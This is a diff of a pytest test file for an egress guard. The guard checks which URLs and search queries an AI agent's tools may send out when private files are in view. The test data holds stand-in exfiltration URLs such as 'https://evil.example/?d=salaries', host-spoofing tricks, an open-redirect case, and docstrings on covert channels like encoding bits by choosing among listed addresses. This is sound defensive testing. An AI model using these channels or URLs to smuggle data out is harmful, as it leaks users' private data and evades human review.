@@ -3,16 +3,18 @@
 from __future__ import annotations
 
 from dataclasses import replace
+from typing import Any
+from urllib.parse import quote
 
 import pytest
 from pydantic import BaseModel
 
-from handoff.context import Provenance
 from handoff.contracts import Note, Result, ToolReply
 from handoff.events import ToolReturned, TurnTaken
+from handoff.provenance import Provenance
 from specialists.runner import run
-from specialists.toolkits.tool import Tool, ToolOutcome, Workbench
-from specialists.turns.egress import EgressGuard
+from specialists.toolkits.tool import Sent, Tool, ToolOutcome, Workbench
+from specialists.turns.egress import MOST_A_SITE, MOST_SHOWN, MOST_SITES, EgressGuard
 from tests.specialists.scripted_model import (
     EmptyBench,
     KeptLog,
@@ -27,77 +29,277 @@ from tests.specialists.scripted_model import (
 PAGE = "A page. [More](https://a.example/more?page=2), see https://b.example/wiki/Sea_(north). Also www.c.example."
 
 
-def bound(*words: str, page: str = "") -> EgressGuard:
-    guard = EgressGuard(words, ["open"], derived=True)
+class Where(BaseModel):
+    url: str
+    start: int = 0
+
+
+class Words(BaseModel):
+    query: str
+    count: int = 5
+
+
+def opener(seen: list[str], page: str = PAGE) -> Tool:
+    async def fetch(arguments: Where, _bench: Workbench) -> ToolOutcome:
+        """Open a page."""
+        seen.append(arguments.url)
+        return ToolOutcome(page)
+
+    return Tool("open", "read", Where, fetch, url="url", finds_urls=True)
+
+
+def searcher(seen: list[tuple[str, int]]) -> Tool:
+    async def find(arguments: Words, _bench: Workbench) -> ToolOutcome:
+        """Search."""
+        seen.append((arguments.query, arguments.count))
+        return ToolOutcome("1. https://a.example/found")
+
+    def sends(call: Words) -> Sent:
+        return Sent("engine.example", f"q={quote(call.query)}&n={call.count}", call.query)
+
+    return Tool("find", "read", Words, find, sends=sends, sent_words="query", finds_urls=True)
+
+
+OPEN, FIND = opener([]), searcher([])
+
+
+def bound(*words: str, page: str = "", private: tuple[str, ...] = (), allow_out: tuple[str, ...] = ()) -> EgressGuard:
+    """A guard that was handed what others found, and has read a page."""
+    tools = {tool.name: tool for tool in (OPEN, FIND, Looker().tool())}
+    guard = EgressGuard(Provenance(words, private=private), tools, derived=True, allow_out=allow_out)
     guard.reply_read("open", ToolReply(call_id="1", text=page))
     guard.turn_ended()
     return guard
 
 
-@pytest.mark.parametrize(
-    "address",
-    [
-        "https://a.example/more?page=2",
-        "http://www.a.example/more/?page=2#part",
-        "https://a.example:443/more",
-        "https://A.EXAMPLE/more",
-        "https://b.example/wiki/Sea_(north)",
-        "https://b.example/wiki/Sea_%28north%29",
-    ],
-)
-def test_what_a_page_gave_may_be_opened_however_it_is_written(address: str) -> None:
-    assert bound(page=PAGE).allows(address)
+def ruled(guard: EgressGuard, url: str) -> str:
+    """The URL that would go out, `asks`, or the note of a refusal."""
+    verdict = guard.judge(OPEN, Where(url=url))
+    return verdict.refused or ("asks" if verdict.asks else str(verdict.arguments.model_dump()["url"]))
+
+
+def searched(guard: EgressGuard, query: str, count: int = 5) -> str:
+    verdict = guard.judge(FIND, Words(query=query, count=count))
+    sent = verdict.arguments.model_dump()
+    return "asks" if verdict.asks else f"{sent['query']}/{sent['count']}"
+
+
+# ---------------------------------------------------------------- with nothing private in view
 
 
 @pytest.mark.parametrize(
-    "address",
+    ("address", "given"),
     [
-        "https://a.example/more?page=2&d=salaries",
-        "https://a.example/more/salaries",
-        "https://a.example/",
-        "https://salaries.a.example/more",
-        "https://a.example:8443/more",
-        "https://salaries@a.example/more",
-        "https://evil.example\\@a.example/more",
-        "https://c.example/salaries",
-        "ftp://a.example/more",
-        "//a.example/more",
-        "https://[a.example/more",
-        "",
+        ("https://a.example/more?page=2", "https://a.example/more?page=2"),
+        ("http://www.a.example/more/?page=2#part", "https://a.example/more?page=2"),
+        ("https://a.example:443/more", "https://a.example/more?page=2"),
+        ("https://A.EXAMPLE/%6dore", "https://a.example/more?page=2"),
+        ("https://b.example/wiki/Sea_(north)", "https://b.example/wiki/Sea_(north)"),
+        ("https://b.example/wiki/Sea_%28north%29", "https://b.example/wiki/Sea_(north)"),
     ],
 )
-def test_what_the_model_put_together_may_not(address: str) -> None:
-    assert not bound(page=PAGE).allows(address)
+def test_what_a_page_gave_is_asked_for_as_it_was_given_however_it_is_spelt(address: str, given: str) -> None:
+    assert ruled(bound(page=PAGE), address) == given
+
+
+MADE = [
+    "https://a.example/more?page=2&d=salaries",
+    "https://a.example/more/salaries",
+    "https://a.example/",
+    "https://salaries.a.example/more",
+    "https://a.example:8443/more",
+    "https://salaries@a.example/more",
+    "https://evil.example\\@a.example/more",
+    "https://c.example/salaries",
+    "https://a.example/more;salaries?page=2",
+    "https://2130706433/more",
+    "ftp://a.example/more",
+    "//a.example/more",
+    "https://[a.example/more",
+    "",
+]
+
+
+@pytest.mark.parametrize("address", MADE)
+def test_what_the_model_put_together_is_refused(address: str) -> None:
+    assert ruled(bound(page=PAGE), address) == "url_refused"
 
 
 @pytest.mark.parametrize("words", ["see acme.example/prices", "Acme.example, please", "(https://www.acme.example)"])
-def test_any_page_of_a_host_that_people_named_may_be_opened(words: str) -> None:
+def test_any_page_of_a_host_that_the_requester_named_may_be_opened(words: str) -> None:
     guard = bound(words)
-    assert guard.allows("https://acme.example/terms?year=2026")
-    assert not guard.allows("https://acme.example.evil.example/")
-    assert not guard.allows("https://docs.acme.example/")
-    assert not bound("ask bob@acme.example").allows("https://acme.example/")
+    url = "https://acme.example/terms?year=2026"
+    assert ruled(guard, url) == url
+    assert ruled(guard, "https://acme.example.evil.example/") == "url_refused"
+    assert ruled(guard, "https://docs.acme.example/") == "url_refused"
+    assert ruled(bound("ask bob@acme.example"), "https://acme.example/") == "url_refused"
+
+
+@pytest.mark.parametrize(
+    "name", ["notes.md", "main.rs", "report.zip", "setup.py", "build.sh", "node.js", "3.11", "u.s"]
+)
+def test_the_name_of_a_file_opens_no_host(name: str) -> None:
+    assert ruled(bound(f"look at {name}, please"), f"https://{name}/?d=salaries") == "url_refused"
+
+
+def test_queries_are_free_and_go_out_as_they_are() -> None:
+    assert searched(bound("the sea"), "Copper price, 2026", 9) == "Copper price, 2026/9"
+
+
+def test_choosing_among_known_addresses_is_counted_by_site() -> None:
+    """Channel 3: a page that lists an address for each letter; 330 of them carried 330 bits."""
+    letters = [f"https://x{number}.evil.example/{number}" for number in range(330)]
+    guard = bound(page=" ".join(letters))
+    opened = [url for url in letters if ruled(guard, url) == url]
+    assert len(opened) == MOST_A_SITE
+    assert ruled(guard, "https://x329.evil.example/329") == "asks"
+    sites = [f"https://evil{number}.example/x" for number in range(330)]
+    guard = bound(page=" ".join(sites))
+    assert len([url for url in sites if ruled(guard, url) == url]) == MOST_SITES
 
 
 def test_other_tools_name_no_addresses_since_a_model_can_have_them_say_anything() -> None:
-    guard = EgressGuard((), ["open"])
-    guard.reply_read("calculate", ToolReply(call_id="1", text="https://evil.example/?d=salaries"))
+    guard = EgressGuard(Provenance(), {tool.name: tool for tool in (OPEN, replace(Looker().tool(), public=True))})
+    guard.reply_read("look", ToolReply(call_id="1", text="https://evil.example/?d=salaries"))
     guard.reply_read("open", ToolReply(call_id="2", text="refused: https://evil.example/?d=salaries", failed=True))
     guard.turn_ended()
-    assert not guard.allows("https://evil.example/?d=salaries")
+    assert ruled(guard, "https://evil.example/?d=salaries") == "url_refused"
 
 
-class Where(BaseModel):
-    url: str
+# ---------------------------------------------------------------- with something private in view
 
 
-def opener(seen: list[str]) -> Tool:
-    async def fetch(arguments: Where, _bench: Workbench) -> ToolOutcome:
-        """Open a page."""
-        seen.append(arguments.url)
-        return ToolOutcome(PAGE)
+def private(*words: str, page: str = PAGE, **more: Any) -> EgressGuard:
+    return bound(*words, page=page, private=("salaries.csv",), **more)
 
-    return Tool("open", "read", Where, fetch, url_of=lambda call: call.url, finds_urls=True)
+
+@pytest.mark.parametrize("address", [one for one in MADE if one.startswith("https://") and one.count("@") == 0][:-1])
+def test_an_address_of_the_models_own_making_waits_for_a_person(address: str) -> None:
+    assert ruled(private(), address) == "asks"
+
+
+def test_an_address_that_the_web_gave_waits_too_and_one_that_the_requester_wrote_is_free() -> None:
+    guard = private("compare with acme.example/prices and https://b.example/x?y=1")
+    assert ruled(guard, "https://a.example/more?page=2") == "asks"
+    assert ruled(guard, "HTTPS://www.Acme.example/%70rices/#salary") == "https://acme.example/prices"
+    assert ruled(guard, "https://b.example/x") == "https://b.example/x?y=1"
+    assert ruled(guard, "https://acme.example/prices?d=184200") == "asks"
+    assert ruled(guard, "https://acme.example/184200") == "asks"
+
+
+def test_a_private_brief_asks_from_the_first_turn_on() -> None:
+    guard = EgressGuard(Provenance(("the sea",), private=("the thread",)), {"open": OPEN})
+    assert ruled(guard, "https://x.example/a") == "asks"
+
+
+def test_a_person_is_shown_what_would_leave_to_whom_and_why() -> None:
+    asks = private().judge(OPEN, Where(url="https://evil.example/?d=%73alary%20184\u200b#x")).asks
+    assert asks is not None
+    assert asks.target == "evil.example"
+    wire, _, clear = asks.leaves.splitlines()
+    assert wire == "GET https://evil.example/?d=%73alary%20184%E2%80%8B"
+    assert clear == "GET https://evil.example/?d=salary 184\u200b", "the card spells out what does not show"
+    assert asks.why == "a model put this together or took it from the web, and could see salaries.csv"
+    query = private().judge(FIND, Words(query="salary 184,200")).asks
+    assert query is not None
+    assert query.target == "engine.example"
+    assert query.leaves.splitlines()[-1] == "salary 184,200"
+
+
+def test_a_host_in_letters_that_look_like_others_is_shown_as_it_is_looked_up() -> None:
+    asks = private().judge(OPEN, Where(url="https://\u0430cme.example/x")).asks
+    assert asks is not None
+    assert asks.target == "xn--cme-5cd.example"
+    assert asks.leaves == "GET https://xn--cme-5cd.example/x"
+
+
+def test_a_tool_that_sends_more_than_a_request_is_judged_by_both() -> None:
+    poster = replace(OPEN, name="post", sends=lambda call: Sent("acme.example", f"POST {call.url} {call.start}"))
+    guard = private("see https://acme.example/x")
+    asks = guard.judge(poster, Where(url="https://acme.example/%78", start=184200)).asks
+    assert asks is not None
+    assert asks.leaves == "POST https://acme.example/x 184200"
+    assert bound().judge(poster, Where(url="https://evil.example/")).refused == "url_refused"
+    assert bound("see https://acme.example/x").judge(poster, Where(url="https://acme.example/x")).asks is None
+
+
+def test_what_cannot_be_shown_whole_is_not_asked() -> None:
+    assert ruled(private(), f"https://evil.example/{'x' * MOST_SHOWN}") == "too_long_to_ask"
+
+
+@pytest.mark.parametrize("query", ["market salaries 184,200 EUR", "the sea J. Doe", "sea\u0430", "merger"])
+def test_a_query_in_other_words_than_the_requesters_waits(query: str) -> None:
+    assert searched(private("the sea in 2026"), query) == "asks"
+
+
+def test_a_query_in_the_requesters_words_is_free_until_choosing_them_has_said_enough() -> None:
+    """The spelling and the number of hits are ours: they would carry more than the words do."""
+    guard = private("How warm is the North Sea in 2026?")
+    assert searched(guard, "NORTH  sea, in 2026!", count=9) == "North Sea in 2026/5"
+    words = ["warm sea how", "sea north 2026", "is warm 2026 north", "how sea the warm is"]
+    free = [query for query in words if searched(guard, query) != "asks"]
+    assert 0 < len(free) < len(words)
+
+
+def test_what_a_tool_gave_makes_the_turns_after_it_wait() -> None:
+    tools = {tool.name: tool for tool in (OPEN, FIND, Looker().tool())}
+    guard = EgressGuard(Provenance(("the sea",)), tools)
+    assert searched(guard, "anything") == "anything/5"
+    guard.reply_read("look", ToolReply(call_id="1", text="no such column: salary", failed=True))
+    assert searched(guard, "something") == "something/5", "the turn was taken before"
+    guard.turn_ended()
+    assert searched(guard, "anything") == "asks"
+    assert ruled(guard, "https://x.example/a") == "asks"
+
+
+def test_what_a_crew_allows_needs_nobody() -> None:
+    guard = private(allow_out=("find", "Docs.python.org"))
+    assert searched(guard, "salary 184,200") == "salary 184,200/5"
+    assert ruled(guard, "https://docs.python.org/3/?q=184200") == "https://docs.python.org/3/?q=184200"
+    assert ruled(guard, "https://docs.python.org.evil.example/") == "asks"
+    assert ruled(guard, "https://evil.docs.python.org/") == "asks"
+
+
+def test_a_tool_that_sends_its_arguments_waits_whatever_they_are() -> None:
+    other = replace(FIND, name="ask_board", sent_words="", finds_urls=False)
+    guard = EgressGuard(Provenance(("the sea",), private=("a.csv",)), {"ask_board": other})
+    verdict = guard.judge(other, Words(query="the sea"))
+    assert verdict.asks is not None
+    assert verdict.to == "engine.example"
+
+
+# ---------------------------------------------------------------- redirects
+
+
+@pytest.mark.parametrize(
+    ("target", "with_private", "without"),
+    [
+        ("https://acme.example/login?next=prices", True, True),
+        ("http://www.acme.example/prices/", True, True),
+        ("https://evil.example/?d=1", False, True),
+        ("https://b.example/y", True, True),
+        ("https://acme.example:8443/", False, True),
+        ("https://x@acme.example/", False, False),
+        ("ftp://acme.example/", False, False),
+    ],
+)
+def test_a_redirect_of_a_given_address_is_judged_as_an_address(target: str, with_private: bool, without: bool) -> None:  # noqa: FBT001
+    words = "compare acme.example/prices with https://b.example/y"
+    given = "https://acme.example/prices"
+    assert private(words).may_follow(given, target) is with_private
+    assert bound(words).may_follow(given, target) is without
+
+
+def test_an_open_redirect_of_a_named_host_leads_nowhere_else() -> None:
+    """Channel 5: whoever writes "compare with google.example" would open every redirect there."""
+    guard = bound("compare with google.example")
+    made = "https://google.example/url?q=https://evil.example/?d=184200"
+    assert ruled(guard, made) == made
+    assert not guard.may_follow(made, "https://evil.example/?d=184200")
+    assert ruled(guard, "https://evil.example/?d=184200") == "url_refused"
+
+
+# ---------------------------------------------------------------- in attempts
 
 
 FREE, LEAK, LINK = "https://x.example/a", "https://evil.example/?d=salaries", "https://a.example/more?page=2"
@@ -141,6 +343,84 @@ async def test_an_attempt_that_changed_hands_decides_as_the_first_would_have() -
         assert [*done, *await opened(*rest, log=kept, bench=EmptyBench())] == whole, cut
 
 
+SEEN = EmptyBench(Provenance(("Is the sea warm at acme.example/sea?",), private=("salaries.csv",)))
+
+
+async def test_where_nobody_can_be_asked_the_call_is_refused_and_the_work_goes_on() -> None:
+    found: list[tuple[str, int]] = []
+    opened: list[str] = []
+    log = KeptLog(can_ask=False)
+    moves = [
+        calling(
+            ("find", {"query": "salary 184,200"}), ("open", {"url": LEAK}), ("find", {"query": "WARM sea", "count": 9})
+        ),
+        returning(),
+    ]
+    who = specialist(opener(opened), searcher(found))
+    outcome = await run(who, handoff(), model=ScriptedModel(moves), workbench=SEEN, log=log)
+    assert isinstance(outcome, Result)
+    assert (found, opened) == ([("warm sea", 5)], [])
+    refused = [reply.text for reply in log.replies if reply.failed]
+    assert all("nobody is there to ask" in text for text in refused)
+    assert sorted(log.sent) == [
+        ("find", "engine.example", ""),
+        ("find", "engine.example", "nobody_to_ask"),
+        ("open", "evil.example", "nobody_to_ask"),
+    ]
+
+
+async def test_an_attempt_that_changed_hands_has_spent_what_the_first_had() -> None:
+    queries = [
+        ("find", {"query": query})
+        for query in ("sea the warm at is", "at", "warm is sea the at", "the warm is at sea", "sea")
+    ]
+    found: list[tuple[str, int]] = []
+    log = KeptLog(can_ask=False)
+    who = specialist(searcher(found), max_turns=9)
+    moves = [*(calling(one) for one in queries), returning()]
+    await run(who, handoff(), model=ScriptedModel(moves), workbench=SEEN, log=log)
+    assert 0 < len(found) < len(queries)
+    for cut in range(1, len(log.history)):
+        kept = KeptLog(list(log.history[:cut]), can_ask=False)
+        rest = [calling(one) for one in queries[len(kept.turns) :]]
+        again: list[tuple[str, int]] = []
+        done = sum(not reply.failed for reply in kept.replies)
+        who = specialist(searcher(again), max_turns=9)
+        await run(who, handoff(), model=ScriptedModel([*rest, returning()]), workbench=SEEN, log=kept)
+        assert [*found[:done], *again] == found, cut
+
+
+async def test_what_a_tool_gave_is_kept_as_private_and_what_the_web_gave_is_not() -> None:
+    log = KeptLog()
+    moves = [calling(("look", {"at": "x"}), ("open", {"url": FREE})), returning()]
+    who = specialist(opener([]), Looker().tool())
+    await run(who, handoff(), model=ScriptedModel(moves), workbench=EmptyBench(), log=log)
+    kept = {item.reply.text: item.private for item in log.history if isinstance(item, ToolReturned)}
+    assert kept["saw x"] is True
+    assert kept[PAGE] is False
+
+
+async def test_a_redirect_is_judged_and_recorded_as_a_call_is() -> None:
+    log, ways = KeptLog(), []
+
+    async def fetch(arguments: Where, bench: Workbench) -> ToolOutcome:
+        """Open a page."""
+        ways.extend([await bench.may_follow(arguments.url, to) for to in ("http://acme.example/", LEAK)])
+        return ToolOutcome("moved")
+
+    tool = Tool("open", "read", Where, fetch, url="url", finds_urls=True)
+    moves = [calling(("open", {"url": "https://acme.example/%73ea"})), returning()]
+    await run(specialist(tool), handoff(), model=ScriptedModel(moves), workbench=SEEN, log=log)
+    assert ways == [True, False]
+    assert log.sent == [("open", "acme.example", ""), ("redirect", "evil.example", "redirect_refused")]
+
+
+def test_a_tool_that_names_arguments_it_lacks_is_faulty() -> None:
+    assert replace(OPEN, url="uri").faults == ("names uri as its url, and has no such argument",)
+    assert replace(FIND, sends=None).faults == ("says which words it sends, and not to whom: give it sends",)
+    assert FIND.faults == OPEN.faults == ()
+
+
 def _replied(log: KeptLog, url: str) -> bool:
     calls = {}
     for item in log.history:
@@ -156,7 +436,7 @@ def finder(page: str) -> Tool:
         """Open a page."""
         return ToolOutcome(page)
 
-    return Tool("open", "read", Where, find, finds_urls=True)
+    return Tool("open", "read", Where, find, url="url", finds_urls=True)
 
 
 async def test_a_result_says_which_of_its_addresses_tools_that_find_them_gave() -> None:
